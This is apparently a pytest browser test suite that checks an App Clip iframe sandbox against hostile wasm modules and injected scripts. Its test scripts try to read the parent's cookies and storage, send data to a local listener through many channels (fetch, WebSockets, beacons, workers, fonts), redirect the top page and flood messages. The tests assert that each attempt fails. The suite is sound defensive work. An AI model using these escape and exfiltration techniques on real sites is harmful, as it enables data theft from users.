# SPDX-License-Identifier: Apache-2.0

"""The sandbox of a clip holds in Chromium, WebKit and Firefox: hostile modules, and hostile scripts in place of the frame's.

Build first:  Scripts/build-clips.sh; swift build --package-path Application --product morsel
Then:         pytest --engine chromium --engine webkit --engine firefox Tests/Browser/test_engine_hostile.py
"""
import json

import pytest

import wasm
from detour import Listener
from morsel import Registered, Server
from wasm import DATA, Module, call, loop, part, showing

pytestmark = pytest.mark.xdist_group("engine-hostile")

ADDRESS = "https://fruta.example/smoothie"
MODULE = r"\.morsel/blob/\w+$"
ENDLESS = loop(b"")
SCREEN = wasm.heading(1, "Hostile") + wasm.button(2, 3, "Tap") + wasm.title("Hostile")
STOPPED = "The App Clip has stopped"


@pytest.fixture(scope="module")
def server(tmp_path_factory):
    server = Server(Registered(tmp_path_factory.mktemp("registry"), "example.com").path)
    yield server.wait()
    assert server.end() == 0


@pytest.fixture
def listener():
    with Listener() as listener:
        yield listener


class Visit:
    """A page whose clip has another module, with a button on top of it that counts taps."""

    def __init__(self, tab, detour):
        self.tab, self.detour, self.taps = tab, detour, 0

    def open(self, module=None):
        if module is not None:
            self.serve(module)
        self.tab.open(self.detour.page(ADDRESS))
        self.tab.wait_for("document.documentElement.dataset.started !== undefined")
        self.tab.evaluate("""
            const probe = document.createElement('button');
            probe.id = 'probe';
            probe.textContent = '0';
            probe.style.cssText = 'position: fixed; inset: 0 auto auto 0; z-index: 9; min-width: 44px; min-height: 44px';
            probe.addEventListener('click', () => { probe.textContent = Number(probe.textContent) + 1; });
            document.body.append(probe);
            addEventListener('message', ({ data }) => { if (data?.outcome) document.body.dataset.outcome = data.outcome; });""")
        self.taps = 0
        self.tab.find("#open").click()

    def serve(self, module):
        self.detour.replace(MODULE, module.bytes if isinstance(module, Module) else module,
                            fields={"Content-Type": "application/wasm"})

    def runs(self):
        self.tab.wait_for("document.body.dataset.state === 'running'")

    def is_usable(self):
        """The page answers taps, whatever its clip does."""
        for _ in range(3):
            self.taps += 1
            self.tab.find("#probe").click()
            self.tab.wait_for("document.getElementById('probe').textContent === String(arguments[0])", self.taps)

    def tap(self):
        with self.tab.frame():
            self.tab.by_role("button", "Tap").click()

    def alert(self, text):
        """Waits for an alert of the page with a text."""
        self.tab.wait_for("[...document.querySelectorAll('[role=alert]:not([hidden])')].some((one) => one.textContent.includes(arguments[0]))", text)

    def not_opened(self):
        self.tab.wait_for("document.getElementById('status').textContent.includes('could not be opened')")
        return self.tab.find("#status").text


@pytest.fixture
def visit(tab, detour):
    return Visit(tab, detour)


def test_endless_loop_is_ended_and_the_clip_opened_again(visit, shot):
    visit.open(showing(SCREEN, event=ENDLESS))
    visit.runs()
    visit.tap()
    visit.is_usable()
    visit.alert("The App Clip is not responding.")
    shot("not-responding")
    visit.is_usable()
    visit.tab.by_role("button", "Close App Clip").click()
    visit.alert(STOPPED)
    assert visit.tab.all("iframe") == []
    shot("stopped")
    visit.tab.by_role("button", "Open again").click()
    with visit.tab.frame():
        visit.tab.by_role("heading", "Hostile")
    visit.is_usable()


@pytest.mark.parametrize("module", [Module(main=ENDLESS), Module(launch=ENDLESS), Module(begin=ENDLESS)],
                         ids=["in main", "at launch", "while instantiated"])
def test_endless_loop_at_the_start_is_ended(visit, module):
    visit.open(module)
    visit.is_usable()
    visit.alert("The App Clip is not responding.")
    visit.tab.by_role("button", "Close App Clip").click()
    visit.not_opened()
    visit.serve(showing(SCREEN))
    visit.tab.by_role("button", "Try again").click()
    visit.runs()
    visit.is_usable()


# Over a limit: the clip is ended at once, and its frame says why.
FLOODS = {
    "store": loop(call("store", DATA, 0, DATA, 4, DATA, 4)), "overlay": loop(call("overlay", 0) + call("overlay", -1)),
    "patches": loop(call("render", DATA, 0)), "random": loop(call("random", DATA, 1)),
    "store and catch": loop(wasm.caught(call("store", DATA, 0, DATA, 4, DATA, 4))),
    "memory": loop(wasm.grow(16) + wasm.constant(-1) + b"\x46\x04\x40\x00\x0B"),
}


@pytest.mark.parametrize("flood", FLOODS)
def test_flood_and_memory_are_bounded(visit, flood):
    visit.open(Module(launch=call("render", DATA + 4, len(SCREEN)), event=FLOODS[flood], data=b"name" + SCREEN + bytes(64)))
    visit.runs()
    visit.tap()
    visit.is_usable()
    with visit.tab.frame():
        visit.tab.wait_for(f"document.body.textContent.includes('{STOPPED}')")
        visit.tab.wait_for("document.body.textContent.includes('more memory or time')")
    visit.is_usable()


# Bytes that are no clip, and clips that ask for too much.
NO_CLIPS = [b"", b"<!doctype html>", b"\0asm\1\0\0\0", b"\0asm\1\0\0\0\x05\x04\x01\x03\x01\x02", Module(imports=[("env", "fetch")]),
            Module(main=wasm.UNREACHABLE), Module(memory=[4_000]), Module(tables=[9_000_000]), showing(b"\x63"),
            wasm.showing_elements(20_000), showing(part(1, wasm.TEXT, "x" * 70_000))]


def test_what_is_no_clip_is_reported(visit):
    for module in NO_CLIPS:
        visit.open(module)
        assert "could not be opened" in visit.not_opened()
        assert visit.tab.by_role("button", "Try again")
        visit.is_usable()


# A script in place of the frame's own greets, and tells the page what its attempts came to: its frame may be empty by then.
GREETING = """
const outcome = {};
function attempt(name, action) {
    try { outcome[name] = String(action()); } catch (error) { outcome[name] = error.name; }
}
async function wait(name, action) {
    const late = new Promise((resolve) => setTimeout(resolve, 8000, "nothing"));
    try { outcome[name] = String(await Promise.race([action(), late])); } catch (error) { outcome[name] = "refused"; }
}
addEventListener("message", async ({ ports: [port] }) => {
    port.onmessage = async ({ data }) => {
        if (data.type === "ping") port.postMessage({ type: "pong", number: data.number });
        if (data.type !== "start") return;
        port.postMessage({ type: "running", milliseconds: 1 });
        await attack(port);
        parent.postMessage({ outcome: JSON.stringify(outcome) }, "*");
    };
}, { once: true });
"""
HELLO = 'parent.postMessage({ type: "clip-frame-ready" }, "*");'


def attack(visit, script):
    """What a hostile script in the frame came to."""
    visit.detour.replace_frame_script(GREETING + f"async function attack(port) {{ {script} }}\n" + HELLO)
    visit.open()
    visit.runs()
    return json.loads(visit.tab.wait_for("document.body.dataset.outcome"))


# The frame has no origin: nothing of its page or of the browser's storage is within reach.
def test_page_and_storage_are_out_of_reach(visit):
    visit.tab.open(visit.detour.page(ADDRESS))
    visit.tab.evaluate("localStorage.setItem('secret', '1'); document.cookie = 'secret=1';")
    outcome = attack(visit, """
        attempt("origin", () => origin);
        for (const [name, action] of Object.entries({
            parentStorage: () => parent.localStorage.length, ownStorage: () => localStorage.length,
            session: () => sessionStorage.length, parentCookie: () => parent.document.cookie, ownCookie: () => document.cookie,
            setCookie: () => (document.cookie = "a=b"), parentBody: () => parent.document.body.innerHTML,
            address: () => top.location.href, element: () => frameElement && frameElement.tagName,
            domain: () => (document.domain = "localhost"), evaluate: () => eval("1 + 1"), make: () => new Function("return 1")(),
        })) attempt(name, action);
        await wait("databases", () => new Promise((resolve, reject) => {
            const request = indexedDB.open("x");
            request.onsuccess = () => resolve("open");
            request.onerror = reject;
        }));
        await wait("caches", () => caches.open("x").then(() => "open"));
        await wait("workers", () => navigator.serviceWorker.register("/.morsel/web/page/page.js").then(() => "open"));
    """)
    assert outcome.pop("origin") == "null"
    assert outcome.pop("element") in ("null", "SecurityError")
    assert set(outcome.values()) <= {"SecurityError", "TypeError", "EvalError", "ReferenceError", "refused", "InvalidAccessError"}, outcome
    assert visit.tab.evaluate("return [localStorage.getItem('secret'), document.cookie]") == ["1", "secret=1"]


# Nothing leaves: no request to anybody else, and none but for scripts, styles and images to the server.
def test_nothing_leaves_the_frame(visit, listener):
    outcome = attack(visit, f"""
        const there = "http://127.0.0.1:{listener.port}/";
        const own = new URL("/stolen-", location.href).href;
        const load = (name, properties) => new Promise((resolve, reject) => {{
            const element = Object.assign(document.createElement(name), properties);
            element.onload = () => resolve("loaded");
            element.onerror = () => reject(new Error());
            document.body.append(element);
        }});
        const worker = (script) => new Promise((resolve, reject) => {{
            const made = new Worker(URL.createObjectURL(new Blob([script], {{ type: "text/javascript" }})));
            made.onmessage = ({{ data }}) => resolve(data);
            made.onerror = (event) => {{ event.preventDefault(); reject(new Error()); }};
        }});
        const post = "then(() => postMessage('sent'), () => postMessage('refused'))";
        await Promise.all([
            wait("fetch", () => fetch(there + "fetch").then(() => "sent")),
            wait("opaque", () => fetch(there + "opaque", {{ mode: "no-cors" }}).then(() => "sent")),
            wait("own", () => fetch(own + "fetch").then(() => "sent")),
            wait("request", () => new Promise((resolve, reject) => {{
                const request = new XMLHttpRequest();
                request.onload = () => resolve("sent");
                request.onerror = reject;
                request.open("GET", there + "request");
                request.send();
            }})),
            wait("socket", () => new Promise((resolve, reject) => {{
                const socket = new WebSocket(there.replace("http", "ws") + "socket");
                socket.onopen = () => resolve("sent");
                socket.onerror = reject;
            }})),
            wait("events", () => new Promise((resolve, reject) => {{
                const events = new EventSource(there + "events");
                events.onopen = () => resolve("sent");
                events.onerror = reject;
            }})),
            wait("image", () => load("img", {{ src: there + "image" }})),
            wait("script", () => load("script", {{ src: there + "script" }})),
            wait("module", () => import(there + "module").then(() => "sent")),
            wait("style", () => load("link", {{ rel: "stylesheet", href: there + "style" }})),
            wait("frame", () => load("iframe", {{ src: there + "frame" }}).then(() => "shown")),
            wait("object", () => load("object", {{ data: there + "object" }})),
            wait("media", () => new Promise((resolve, reject) => {{
                const media = Object.assign(new Audio(), {{ onloadeddata: () => resolve("sent"), onerror: reject, src: there + "media" }});
                media.load();
            }})),
            wait("font", () => new FontFace("x", `url(${{there}}font)`).load().then(() => "sent")),
            wait("worker", () => worker(`fetch("${{there}}worker").${{post}}`)),
            wait("workerOwn", () => worker(`fetch("${{own}}worker").${{post}}`)),
            wait("workerSocket", () => worker(`try {{ const s = new WebSocket("${{there.replace("http", "ws")}}worker-socket");
                s.onopen = () => postMessage("sent"); s.onerror = () => postMessage("refused"); }} catch {{ postMessage("refused"); }}`)),
            wait("workerScript", () => worker(`try {{ importScripts("${{there}}worker-script"); postMessage("sent"); }}
                catch {{ postMessage("refused"); }}`)),
            wait("workerModule", () => worker(`import("${{there}}worker-module").${{post}}`)),
            wait("workerEvaluation", () => worker(`try {{ postMessage(eval("'sent'")); }} catch {{ postMessage("refused"); }}`)),
        ]);
        attempt("beacon", () => navigator.sendBeacon(there + "beacon", "x"));
        for (const rel of ["preconnect", "prefetch", "preload", "dns-prefetch"]) {{
            document.head.append(Object.assign(document.createElement("link"), {{ rel, as: "image", href: there + rel }}));
        }}
    """)
    outcome.pop("beacon")
    assert "sent" not in outcome.values() and "loaded" not in outcome.values(), outcome
    visit.is_usable()
    assert listener.requested == []
    assert not [path for path in visit.detour.requested if "stolen" in path]


# Windows, forms, downloads and dialogs are not for clips; the page stays where it is. (Firefox lets the scripts of a frame go
# back in the history of their window. A clip's module has no call for it.)
def test_page_is_not_led_away(visit, listener):
    visit.tab.open(visit.detour.page(ADDRESS))
    windows = len(visit.tab.windows)
    attack(visit, f"""
        const there = "http://127.0.0.1:{listener.port}/";
        attempt("top", () => (top.location = there + "top"));
        attempt("parent", () => (parent.location.href = there + "parent"));
        attempt("replace", () => top.location.replace(there + "replace"));
        attempt("window", () => open(there + "window"));
        for (const target of ["_top", "_parent", "_blank"]) {{
            const link = Object.assign(document.createElement("a"), {{ href: there + "link" + target, target, textContent: "x" }});
            document.body.append(link);
            attempt("link" + target, () => link.click());
            const form = Object.assign(document.createElement("form"), {{ action: there + "form" + target, target }});
            document.body.append(form);
            attempt("form" + target, () => form.submit());
        }}
        const file = Object.assign(document.createElement("a"), {{ href: "data:text/plain,x", download: "x" }});
        document.body.append(file);
        attempt("download", () => file.click());
        attempt("alert", () => alert(1));
        attempt("confirm", () => confirm(1));
        await new Promise((resolve) => setTimeout(resolve, 500));
    """)
    visit.is_usable()
    assert visit.tab.address.startswith(visit.detour.page(ADDRESS))
    assert len(visit.tab.windows) == windows
    assert listener.requested == []


# A frame leads itself to no other server: it stays, or is empty, and then its clip can be closed.
def test_frame_cannot_lead_itself_away(visit, listener):
    visit.detour.replace_frame_script(GREETING + f"""
        async function attack(port) {{
            location.href = "http://127.0.0.1:{listener.port}/self";
            setTimeout(() => port.postMessage({{ type: "title", text: "still here" }}), 1000);
        }}
        """ + HELLO)
    visit.open()
    visit.runs()
    visit.tab.wait_for("document.querySelector('iframe').title === 'still here' || document.querySelector('.clip-notice') !== null")
    assert listener.requested == []
    visit.is_usable()


# The page trusts no message: a flood ends the frame.
@pytest.mark.parametrize("flood", ["port.postMessage({ type: 'x' + Math.random() })", "parent.postMessage({ type: 'x' }, '*')",
                                   "port.postMessage({ type: 'x', text: 'x'.repeat(300000) })"], ids=["port", "window", "large"])
def test_flood_of_messages_ends_the_frame(visit, flood):
    visit.detour.replace_frame_script(GREETING + f"""
        async function attack(port) {{ setInterval(() => {{ for (let i = 0; i < 50; i++) {{ {flood}; }} }}, 10); }}
        """ + HELLO)
    visit.open()
    visit.alert(STOPPED)
    assert visit.tab.all("iframe") == []
    visit.is_usable()
